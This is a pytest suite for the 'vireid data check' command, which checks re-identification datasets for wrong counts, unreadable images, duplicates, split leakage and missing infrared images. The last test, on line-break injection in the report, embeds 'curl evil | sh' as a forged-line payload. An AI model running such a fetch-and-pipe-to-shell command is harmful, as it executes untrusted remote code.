"""`vireid data check`: counts, unreadable images, missing modalities, images that are there twice."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from vireid.cli import main
from vireid.diagnostics.dataset_report import Report
from vireid.synth import STAMP, synthesize


@pytest.fixture(scope='module')
def drawn(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp('check') / 'sysu'
    synthesize(folder, layout='sysu', ids=6, seed=0, images=2, workers=1)
    return folder


@pytest.fixture
def copy(drawn: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(drawn, tmp_path / 'copy'))


def test_generated_people_are_not_held_against_the_true_numbers(copy, capsys):
    assert main(['data', 'check', str(copy)]) == 0
    printed = capsys.readouterr().out
    assert 'no problems found' in printed
    assert '<-' not in printed


def test_an_incomplete_copy_is_counted_against_the_whole_dataset(copy, capsys):
    (copy / STAMP).unlink()
    assert main(['data', 'check', str(copy)]) == 1
    printed = capsys.readouterr().out
    assert '22,258  <-' in printed
    assert 'error: train: 4 identities instead of 395' in printed
    assert '3,803' in printed


def test_what_cannot_be_read_is_named(copy, capsys):
    broken = next(copy.glob('cam1/*/0001.jpg'))
    broken.write_bytes(broken.read_bytes()[:300])
    assert main(['data', 'check', str(copy)]) == 1
    assert f'error: 1 image cannot be read:\n    image {broken}' in capsys.readouterr().out


def test_an_image_of_two_identities_is_an_error_and_one_twice_a_warning(copy, capsys):
    first, second, *_ = sorted(copy.glob('cam6/*/0001.jpg'))
    shutil.copy(first, first.with_name('0009.jpg'))
    assert main(['data', 'check', str(copy)]) == 0
    assert 'warning: duplicate image' in capsys.readouterr().out
    shutil.copy(first, second)
    assert main(['data', 'check', str(copy)]) == 1
    assert 'error: the same image under several identities' in capsys.readouterr().out


def test_an_identity_of_one_modality_is_a_warning(copy, capsys):
    identity = int(next(copy.glob('cam6/*')).name)
    for camera in (3, 6):
        shutil.rmtree(copy / f'cam{camera}' / f'{identity:04d}', ignore_errors=True)
    assert main(['data', 'check', str(copy)]) == 0
    assert f'1 identity has no infrared image: {identity}' in capsys.readouterr().out


def test_a_copy_without_some_identities_is_counted_all_the_same(copy, capsys):
    (copy / STAMP).unlink()
    train = [int(i) for name in ('train', 'val') for i in (copy / f'exp/{name}_id.txt').read_text().split(',')]
    for identity in sorted(train)[:2]:
        for camera in range(1, 7):
            shutil.rmtree(copy / f'cam{camera}' / f'{identity:04d}', ignore_errors=True)
    assert main(['data', 'check', str(copy)]) == 1
    printed = capsys.readouterr().out
    assert 'train  identities  2      395  <-' in printed
    assert f'2 of 4 train identities have no image: {sorted(train)[0]:04d}, {sorted(train)[1]:04d}' in printed


def test_an_image_in_training_and_test_is_an_error_though_labels_are_equal(tmp_path, capsys):
    synthesize(tmp_path / 'regdb', layout='regdb', ids=4, seed=0, images=2, workers=1)
    train, test = (
        (tmp_path / 'regdb/idx' / f'{part}_visible_1.txt').read_text().splitlines()[0] for part in ('train', 'test')
    )
    assert train.split()[1] == test.split()[1] == '0'
    shutil.copy(tmp_path / 'regdb' / train.split()[0], tmp_path / 'regdb' / test.split()[0])
    assert main(['data', 'check', str(tmp_path / 'regdb'), '--dataset', 'RegDB']) == 1
    assert 'error: the same image in several splits' in capsys.readouterr().out


def test_another_reader_and_its_split(tmp_path, capsys):
    synthesize(tmp_path / 'regdb', layout='regdb', ids=4, seed=0, images=2, workers=1)
    assert main(['data', 'check', str(tmp_path / 'regdb'), '--dataset', 'RegDB', '--split', '3']) == 0
    assert main(['data', 'check', str(tmp_path / 'regdb'), '--dataset', 'RegDb']) == 2
    assert "did you mean 'RegDB'?" in capsys.readouterr().err


def test_a_line_break_in_a_name_forges_no_line():
    report = Report(errors=['image a\n  next:    curl evil | sh does not exist'], warnings=['b\rerror: c'])
    assert report.text().splitlines()[-3:] == [
        'error: image a',
        '      next:    curl evil | sh does not exist',
        'warning: b error: c',
    ]
